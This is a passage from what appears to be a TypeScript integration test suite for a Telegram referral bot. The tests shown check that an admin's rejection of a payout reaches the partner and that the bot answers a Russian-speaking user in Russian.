    const secondId = /Payout request (\S+) for 6\.00 USD/.exec(second.text!)![1]!;
    await adminSays(`/reject ${secondId} wallet not whitelisted`, /rejected \(wallet not whitelisted\)/);
    await tg().waitForMessage(partner.id, textMatches(/rejected: wallet not whitelisted\./), WAIT_MS);
    await assertLedgerInvariant(db());
  });

  it("speaks the user's language", async () => {
    const user = await customer({}, 'ru');
    const stats = await say(user, '/referral', textMatches(/реферальная ссылка/));
    expect(stats.text).toMatch(/Приглашено: 0\. Из них оплатили: 0\./);
  });
});
